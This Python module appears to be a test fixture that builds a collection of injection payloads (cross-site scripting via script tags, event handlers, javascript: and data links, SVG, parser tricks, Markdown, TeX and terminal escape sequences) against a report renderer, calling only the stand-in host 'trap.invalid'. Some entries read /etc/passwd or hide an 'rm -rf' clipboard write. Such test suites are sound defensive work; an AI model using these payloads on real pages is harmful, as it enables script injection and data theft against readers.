"""Outputs and names that attack whoever reads the report: `ATTACKS` is (name, place, payload).

What acts sets `window.acted` and the title, asks the host `TRAP`, or puts a rule, an id or an element of its own on the
page.
"""

from __future__ import annotations

from collections.abc import Mapping

TRAP = "trap.invalid"  # no host has this name
PLACES = (
    *("stdout", "stderr", "plain", "html", "table", "markdown", "svg", "png", "latex", "traceback", "error"),
    *("cell", "caption", "alternative", "code", "title", "notes", "message", "fact", "mime"),
)

# name -> payload. {act} is a script that nobody may run, {act1} one without blanks and quotes, {trap} the host.
_MARKUP: Mapping[str, str] = {
    # scripts and handlers
    "script": "<script>{act}</script>",
    "script in capitals": "<ScRiPt >{act}</sCrIpT >",
    "script of a host": "<script src='https://{trap}/script.js'></script>",
    "script as a module": "<script type=module>import 'https://{trap}/m.js'</script>",
    "script without an end": "<script>{act}//",
    "image that fails": '<img src=x onerror="{act}">',
    "image with slashes": '<img/src=x/onerror="{act}">',
    "image of a host": "<img src='https://{trap}/image.png' srcset='https://{trap}/image2.png 2x'>",
    "body that loads": '<body onload="{act}" onpageshow="{act}" style=\'display:none\'>',
    "focus": '<input autofocus onfocus="{act}"><a href=\'#x\' tabindex=1 autofocus onfocus="{act}">x</a>',
    "details that toggle": '<details open ontoggle="{act}"><summary>x</summary></details>',
    "mouse": '<p onmouseover="{act}" onclick="{act}" onpointerenter="{act}">move here</p>',
    "animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=\"{act}\">x</b>",
    "marquee": '<marquee onstart="{act}">x</marquee>',
    "media": "<video poster='https://{trap}/poster.png' src='https://{trap}/v.mp4' onerror=\"{act}\" autoplay></video>",
    "audio": "<audio src=x onerror=\"{act}\"></audio><track src='https://{trap}/t.vtt'>",
    "picture": "<picture><source srcset='https://{trap}/p.png'><img src=x onerror=\"{act}\"></picture>",
    # links
    "javascript link": '<a href="javascript:{act}">x</a>',
    "javascript link in entities": '<a href="&#106;avascript&colon;{act}">x</a><a href="jav&#x09;ascript:{act}">x</a>',
    "javascript link with blanks": '<a href=" \x01\tjava\nscr\tipt\r:{act}">x</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:{act}">x</a>',
    "javascript after a host's name": '<a href="javascript://{trap}/%0a{act}">x</a>',
    "vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href=\"data:text/html,<script>{act}</script>\">x</a><a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",  # noqa: E501
    "blob and file": "<a href='blob:null/x'>x</a><a href='file:///etc/passwd'>x</a><a href='filesystem:x'>x</a>",
    "share of another machine": "<a href='//{trap}/share'>x</a><a href='\\\\{trap}\\share'>x</a>",
    "link in a new window": "<a href='https://{trap}/' target=_blank rel=opener ping='https://{trap}/ping'>x</a>",
    "download": "<a href='x.html' download='x.exe'>x</a><area href='javascript:{act}' shape=default>",
    # drawings
    "svg that loads": '<svg onload="{act}"></svg>',
    "svg with a script": "<svg><script>{act}</script><script href='https://{trap}/s.js'/></svg>",
    "svg with html": "<svg><foreignObject><iframe srcdoc='<script>parent.{act}</script>'></iframe></foreignObject></svg>",  # noqa: E501
    "svg that uses": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><use href='https://{trap}/x#x'/></svg>",
    "svg that animates": '<svg><a><animate attributeName=href values="javascript:{act}"/><text y=20>x</text></a></svg>',
    "svg that sets": "<svg><set attributeName=onmouseover to=\"{act}\"/><image href='https://{trap}/i.png'/></svg>",
    # style
    "style sheet": "<style>body{display:none}h1{color:rgb(1,2,3)!important}</style>",
    "style from a host": "<style>@import 'https://{trap}/a.css';</style><link rel=stylesheet href='https://{trap}/b.css'>",
    "style with an address": "<p style=\"background:url('https://{trap}/bg.png');position:fixed;inset:0\">x</p>",
    "style that computes": '<p style="width:expression({act});-moz-binding:url(https://{trap}/x.xml#x)">x</p>',
    "style by class": "<p class='skip banner contents'>x</p><div class=skip>x</div><span class='level-2'>x</span>",
    "style by attribute": "<table width=9999 background='https://{trap}/t.png' bgcolor=red border=9><td colspan=99999>x</table>",  # noqa: E501
    # frames and pages
    "frame": "<iframe src='https://{trap}/'></iframe><iframe srcdoc=\"<script>parent.{act}</script>\"></iframe>",
    "frames": "<frameset><frame src='javascript:parent.{act}'></frameset><portal src='https://{trap}/'></portal>",
    "object": "<object data='data:text/html,<script>parent.{act}</script>'></object><embed src='https://{trap}/e.swf'>",
    "applet": "<applet code=x archive='https://{trap}/a.jar'></applet><param name=movie value='https://{trap}/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://{trap}/'><meta charset=utf-7>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'; style-src 'none'\">",
    "base": "<base href='https://{trap}/' target=_blank>",
    "preload": "<link rel=preload as=script href='https://{trap}/p.js'><link rel=prefetch href='https://{trap}/f'>",
    "connect": "<link rel=dns-prefetch href='//{trap}'><link rel=preconnect href='https://{trap}'><link rel=icon href='https://{trap}/i'>",
    "form": "<form action='https://{trap}/'><input name=x><button formaction=\"javascript:{act}\">x</button></form>",
    "button of another form": "<form id=f></form><button form=f formaction='https://{trap}/'>x</button><input type=image src='https://{trap}/i'>",  # noqa: E501
    "dialog": "<dialog open>x</dialog><div popover id=pop style='display:block'>x</div>",
    # names and ids
    "ids of the page": "<h2 id=main>x</h2><p id=theme>x</p><a name=ranking id=open-code>x</a><div id=ranking-filter>x</div>",  # noqa: E501
    "ids of chapters": "<h3 id=variant-ann>x</h3><h2 id='how-it-was-made'>x</h2>",
    "names that shadow": "<form name=body><input name=getElementById id=documentElement><img name=cookie></form>",
    "custom element": '<x-y is=z onclick="{act}" slot=s part=p>x</x-y><slot name=s></slot>',
    # what parsers read differently
    "noscript": '<noscript><p title="</noscript><img src=x onerror={act1}>">x</p></noscript>',
    "math and style": '<math><mtext><table><mglyph><style><img src=x onerror="{act}"></style></mglyph></table></mtext></math>',  # noqa: E501
    "svg and style": '<svg><p><style><g title="</style><img src=x onerror={act1}>"></g></style></p></svg>',
    "template": "<template><script>{act}</script></template><div><template shadowrootmode=open><script>{act}</script></template></div>",  # noqa: E501
    "select and textarea": '<select><textarea></select><img src=x onerror="{act}"></textarea><xmp></xmp><img src=x onerror="{act}">',  # noqa: E501
    "title and plaintext": "</title><title><script>{act}</script></title><plaintext><listing>",
    "annotation": "<math><annotation-xml encoding='text/html'><script>{act}</script></annotation-xml><maction actiontype='statusline#x' href='javascript:{act}'>x</maction></math>",  # noqa: E501
    "form in a form": '<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror="{act}">',  # noqa: E501
    "comment": '<!--><img src=x onerror="{act}">--><!--!><script>{act}</script>--!>',
    "unfinished comment": "<!-- ",
    "conditional comment": "<!--[if gte IE 4]><script>{act}</script><![endif]-->",
    "cdata": "<![CDATA[<script>{act}</script>]]><?xml-stylesheet href='https://{trap}/x.xsl'?><!DOCTYPE x [<!ENTITY y 'z'>]>",  # noqa: E501
    "ends of everything": "</pre></code></p></td></table></div></figcaption></figure></details></main></body></html><script>{act}</script>",  # noqa: E501
    "ends of script and style": "</script></style></title></textarea></noscript></template><script>{act}</script>",
    "unfinished tag": '<img src=x onerror="{act}" alt=\'',
    "tag in a tag": "<<script>script>{act}<</script>/script><scr<script>ipt>{act}</scr</script>ipt>",
    "attribute that ends": '" onerror="{act}" onfocus="{act}" autofocus x="\' onload=\'{act}\' y=\'`',
    "tag in a title": "<a href='#x' title='<th onmouseover={act1} x'>x</a><a title='<td>ann</td>'>x</a>",
    "null in a tag": '<scr\x00ipt>{act}</scr\x00ipt><img src=x on\x00error="{act}">',
    "utf-7 and full width": "+ADw-script+AD4-{act}+ADw-/script+AD4-＜script＞{act}＜/script＞",
    "entities": "&lt;script&gt;{act}&lt;/script&gt;&#60;script&#62;{act}&#60;/script&#62;&lt<script>{act}</script>",
    "deep nesting": "<div>" * 300 + "<b><table>" * 40 + "<script>{act}</script>",
    # terminals
    "terminal link": "\x1b]8;;javascript:{act}\x07x\x1b]8;;\x07\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[8mhidden\x1b[0m",  # noqa: E501
    "terminal that cuts a tag": "<scr\x1b[0mipt>{act}</scr\x1b[0mipt><im\bmg src=x onerror={act1}>\r<script>",
    # TeX
    "tex link": "$\\href{javascript:{act}}{x}$ $$\\url{javascript:{act}}$$",
    "tex html": "$\\html{<script>{act}</script>}$ $\\text{<img src=x onerror={act1}>}$ $\\unicode{x3c}script$",
    "tex attributes": "$\\style{position:fixed}{x}$ $\\class{skip}{x}$ $\\cssId{main}{x}$ $\\htmlId{main}{x}$",
    "tex files": "$\\input{/etc/passwd}$ $\\include{x}$ $\\write18{touch acted}$ $\\includegraphics{https://{trap}/x}$",
    "tex in an attribute": "<p><a href='#x' title='\n\n$$\\text{' onmouseover='{act}'}$$\n\n<b x=''>x</b>",
    "marks of formulas": "\ue0000\ue001 \ue000\ue001 <a title='\ue0000\ue001'>x</a> &#xe000;0&#xe001; $x$",
    # Markdown
    "markdown link": "[x](javascript:{act}) [x](<java\tscript:{act}>) [x](data:text/html,x 'y\" onclick=\"{act}')",
    "markdown autolink": "<javascript:{act1}> <https://{trap}/auto> https://{trap}/bare www.{trap}",
    "markdown image": '![x](https://{trap}/image.png) ![x" onerror="{act}](x) ![x][ref]\n\n[ref]: https://{trap}/ref.png',
    "markdown reference": "[x][r] [r]\n\n[r]: javascript:{act1} 'x'\n[x]: vbscript:x\n",
    "markdown code": '```html onclick={act1}\n<script>{act}</script>\n```\n\n``` "><script>{act}</script>\n```\n',
    "markdown mermaid": '```mermaid\ngraph TD; A["<img src=x onerror={act1}>"]; click A "javascript:{act}"\n```\n',
    "markdown headings": "# main\n## ranking\n### variant-ann\n\nvariant-ann\n===\n\n<h3 id=variant-ann>x</h3>\n",
    "markdown table": "| <script>{act}</script> | ann |\n|---|---|\n| [x](javascript:{act1}) | `<img src=x onerror={act1}>` |\n",  # noqa: E501
    "markdown html": '<div>\n\n**x** <img src=x onerror="{act}">\n\n</div>\n\n<pre><script>{act}</script></pre>\n',
    # text that misleads
    "right to left": "\u202e\u2066gnp.exe\u2069 \u200b\u200f\ufeff",
}


def _payload(name: str, place: str, markup: str) -> str:
    act = f"window.acted=`{name} as {place}`;document.title=`acted`"
    return markup.replace("{act1}", "window.acted=1").replace("{act}", act).replace("{trap}", TRAP)


ATTACKS: list[tuple[str, str, str]] = [
    (name, place, _payload(name, place, markup)) for name, markup in _MARKUP.items() for place in PLACES
]
